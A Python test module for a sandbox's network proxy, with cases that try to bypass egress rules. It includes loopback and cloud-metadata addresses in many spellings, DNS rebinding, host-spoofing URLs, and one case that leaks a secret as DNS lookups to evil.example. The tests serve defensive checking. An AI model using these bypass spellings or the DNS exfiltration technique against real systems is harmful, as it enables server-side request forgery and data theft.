"""N for a box that has a network: the proxy is gone around, or led to a place that no rule names."""

from __future__ import annotations

from ringfence.core.box import NetworkRule
from ringfence.doctor.case import Case, Control
from ringfence.doctor.fake_internet import PUBLIC, Answers
from ringfence.doctor.judging import answered, looked_up, misdirected, network_denied, reached, strayed

ONE = (NetworkRule("one", ("allowed.example:80", "allowed.example:443")),)
_ANY = (NetworkRule("any", ("*",)),)
_ENDINGS = (*ONE, NetworkRule("endings", ("*.wild.example",)))
_BY_PORTS = (*ONE, NetworkRule("ports", ("second.example",), ports=(443,)))
SHARED = Control(share=frozenset({"net"}))
SPECIAL = (
    *("0.1.2.3", "127.0.0.2", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.1.1", "100.64.0.1", "224.0.0.1"),
    *("192.0.2.1", "198.51.100.1", "203.0.113.1", "192.0.0.8", "192.88.99.1", "198.18.0.1", "240.0.0.1"),
    *("::", "::1", "fc00::1", "fec0::1", "fe80::1", "ff02::1", "2001:db8::1", "3fff::1", "2001:2::1", "4000::1"),
    *("::ffff:10.0.0.1", "64:ff9b::a00:1", "2002:a00:1::1", "2001:0:a00:1::1", "2a00::5efe:a00:1", "64:ff9b:1::a00:1"),
    *("::a00:1", "::ffff:0:a00:1", "2001:0:505:505::f5ff:fffe"),
)
"""Of every range that is not the public Internet one, and of every way to write one of them in another."""
_BEHIND: Answers = {f"n{number}.example": [[address]] for number, address in enumerate(SPECIAL)}
TOLD_NO = (answered("403"), network_denied())

_NUMBERS = ("101058054", "0x6060606", "6.394758", "0x6.6.0x606", "06.6.6.6", "0601401406")
"""What resolvers take for an address."""

PROXY = '''
import socket, ssl
def way():
    return socket.create_connection(("127.0.0.1", given["proxy"]), 5)
def heard(way, most=4096, seconds=3):
    way.settimeout(a_while(seconds))
    answer = b""
    try:
        while b"\\r\\n\\r\\n" not in answer and (more := way.recv(most)):
            answer += more
    except OSError:
        pass
    return answer
def code(answer):
    return answer[9:12].decode("latin-1") if answer.startswith(b"HTTP/1.1 ") else "closed"
def ask(data):
    with way() as out:
        out.sendall(data if isinstance(data, bytes) else data.encode("latin-1"))
        return code(heard(out, seconds=20))  # it always answers, however busy the machine is
def get(url, host=None, method="GET", more=""):
    host = host or url.partition("//")[2].partition("/")[0]
    return ask(f"{method} {url} HTTP/1.1\\r\\nHost: {host}\\r\\nX-Mark: {given['mark']}\\r\\n{more}\\r\\n")
def connect(place):
    out = way()
    out.sendall(f"CONNECT {place} HTTP/1.1\\r\\nHost: {place}\\r\\n\\r\\n".encode("latin-1"))
    # The proxy always answers; an answer that came too late would be taken for the server's.
    return out, code(heard(out, seconds=20))
def tunnel(place, data):
    out, answer = connect(place)
    with out:
        if answer == "200":
            out.sendall(data)
            heard(out, 65536)
    return answer
def trusting():
    """A TLS client that believes every server."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context
def get_inside_tls(server, host):
    """The answer to a request for `host` in a tunnel to `server`."""
    out, answer = connect(f"{server}:443")
    with trusting().wrap_socket(out, server_hostname=server) as safe:
        safe.sendall(f"GET /ok HTTP/1.1\\r\\nHost: {host}\\r\\nX-Mark: {given['mark']}\\r\\n\\r\\n".encode())
        return code(heard(safe, seconds=20))
def greeting(name):
    """The first thing that a TLS client says to a server of this name; of no name, to none."""
    ours, theirs = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        trusting().wrap_bio(ours, theirs, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return theirs.read()
'''
_EACH = """
answers = {place: get(f"http://{place}/") for place in PLACES}
answers |= {f"tunnel to {place}": tunnel(place, greeting(None)) for place in TUNNELS}
say("200" in answers.values(), ", ".join(f"{place} {answer}" for place, answer in answers.items()))
"""


def _each(places: tuple[str, ...], tunnels: tuple[str, ...] = ()) -> str:
    return f"{PROXY}\nPLACES, TUNNELS = {places!r}, {tunnels!r}\n{_EACH}"


AROUND = (
    Case(
        "N40",
        "reach a service on the host's loopback, past the proxy",
        "ECONNREFUSED: the proxy is the only thing there",
        "import socket\nattempt(lambda: socket.create_connection(('127.0.0.1', given['port']), 2).close())",
        reached("tcp"),
        props=("tcp",),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N41",
        "send datagrams past the proxy: QUIC, DNS, and to the host",
        "no route, and nothing at the host",
        """
        import socket
        def send(address, port):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
                way.sendto(given["mark"].encode(), (address, port))
        sent = []
        for address, port in (("5.5.5.5", 443), ("8.8.8.8", 53), ("127.0.0.1", given["udp"])):
            try:
                send(address, port)
                sent.append(address)
            except OSError as exc:
                sent.append(word(exc))
        say(bool({"5.5.5.5", "8.8.8.8"} & set(sent)), ", ".join(sent))
        """,
        reached("udp"),
        props=("udp",),
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N42",
        "take the proxy's place, with every option that lets two listen at one port",
        "EADDRINUSE",
        """
        import socket
        def take(address):
            way = socket.socket()
            way.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            way.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            way.bind((address, given["proxy"]))
            way.listen()
        any_of({address: lambda address=address: take(address) for address in ("127.0.0.1", "0.0.0.0")})
        """,
        network=ONE,
        control=Control(impossible="a listener of another user is safe from this anywhere"),
    ),
    Case(
        "N43",
        "use the network of another box, which may reach more",
        "the own proxy answers, 403",
        PROXY + "answer = get('http://evil.example/')\nsay(answer == '200', answer)",
        strayed,
        owed=TOLD_NO,
        beside="import socket\nready()\nsay(False, 'there')",
        network=ONE,
        control=SHARED,
    ),
)

PLACES = (
    Case(
        "N44",
        "have the proxy connect to the host's loopback, in every spelling",
        "403 in every spelling",
        _each(
            (
                "127.0.0.1",
                "127.1",
                "2130706433",
                "0x7f.1",
                "017700000001",
                "[::1]",
                "[::ffff:127.0.0.1]",
                "0.0.0.0",  # noqa: S104 - nothing binds to it
                "localhost",
            ),
            ("127.0.0.1:22", "[::1]:22", "127.1:3128"),
        ),
        strayed,
        owed=(answered("403"),),
        network=_ANY,
        names={"localhost": [["127.0.0.1"]]},
        control=SHARED,
    ),
    Case(
        "N45",
        "ask the cloud's metadata service, by address and by name, where every name is allowed",
        "403: no wildcard covers it",
        _each(
            (
                "169.254.169.254",
                "[fd00:ec2::254]",
                "100.100.100.200",
                "168.63.129.16",
                "169.254.170.2",
                "0xa9fea9fe",
                "[::ffff:169.254.169.254]",
                "metadata.google.internal",
                "metadata.example",
            ),
            ("169.254.169.254:80", "metadata.google.internal:80"),
        ),
        strayed,
        owed=(answered("403"), network_denied("any")),
        network=_ANY,
        names={"metadata.google.internal": [["169.254.169.254"]], "metadata.example": [["168.63.129.16"]]},
        control=SHARED,
    ),
    Case(
        "N46",
        "reach private, shared, link-local, multicast and all other special addresses behind names that are allowed",
        "403: what a name resolves to is looked at",
        _each(tuple(_BEHIND)),
        strayed,
        owed=(answered("403"), network_denied("any")),
        network=_ANY,
        names=_BEHIND,
        control=SHARED,
    ),
    Case(
        "N47",
        "rebind a name: harmless when it is looked at, the host itself when it is dialled",
        "what was looked at is dialled, and nothing else",
        PROXY + "answers = [get('http://allowed.example/') for _ in range(3)]\nsay(False, ', '.join(answers))",
        misdirected,
        owed=(network_denied("one"),),
        network=ONE,
        names={"allowed.example": [["5.5.5.5"], ["127.0.0.1"]]},
        control=SHARED,
    ),
    Case(
        "N48",
        "hide a private address among public ones",
        "403: one such answer refuses all",
        _each(("allowed.example",)),
        strayed,
        owed=(answered("403"), network_denied("one")),
        network=ONE,
        names={"allowed.example": [["127.0.0.1", "5.5.5.5"]]},
        control=SHARED,
    ),
    Case(
        "N49",
        "pass for an allowed host: as a suffix, a prefix, a user, a fragment, with NUL, blanks and other scripts",
        "refused, and never looked up",
        _each(
            (
                "evilallowed.example",
                "allowed.example.evil.example",
                "allowed.example@evil.example",
                "evil.example#allowed.example",
                "evil.example%00.allowed.example",
                "evil.example%2eallowed.example",
                "evil.example\\\\.allowed.example",
                "evil.example;allowed.example",
                "allowed.example:80@evil.example",
                "all\u043ewed.example".encode().decode("latin-1"),
                "evilwild.example",
                "wild.example",
                "a.wild.example.evil.example",
            ),
            ("evilallowed.example:443", "evil.example:443#allowed.example:443", "allowed.example.evil.example:443"),
        ),
        looked_up,
        owed=(network_denied(),),
        network=_ENDINGS,
        control=SHARED,
    ),
    Case(
        "N50",
        "carry a secret out in names to look up",
        "names that no rule covers are never looked up",
        PROXY
        + """
parts = [given["mark"][n:n + 8] for n in range(0, len(given["mark"]), 8)]
answers = [get(f"http://{part}.evil.example/") for part in parts] + [tunnel(f"{parts[0]}.evil.example:443", b"")]
say(False, ", ".join(answers))
""",
        looked_up,
        owed=TOLD_NO,
        network=ONE,
        control=SHARED,
    ),
    Case(
        "N51",
        "reach an allowed host on a port that is not",
        "403",
        _each(
            ("second.example",),
            ("allowed.example:22", "allowed.example:25", "allowed.example:6379", "second.example:8443"),
        ),
        strayed,
        owed=TOLD_NO,
        network=_BY_PORTS,
        names={"second.example": [[PUBLIC]]},
        control=SHARED,
    ),
    Case(
        "N63",
        "reach a host by its number, in every spelling, where every name is allowed",
        "403: no wildcard of names covers an address",
        _each(("6.6.6.6", "[2a00::6]", *_NUMBERS), ("6.6.6.6:443", "101058054:443")),
        strayed,
        owed=TOLD_NO,
        network=_ANY,
        names={number: [["6.6.6.6"]] for number in _NUMBERS},
        control=SHARED,
    ),
)

CASES = AROUND + PLACES
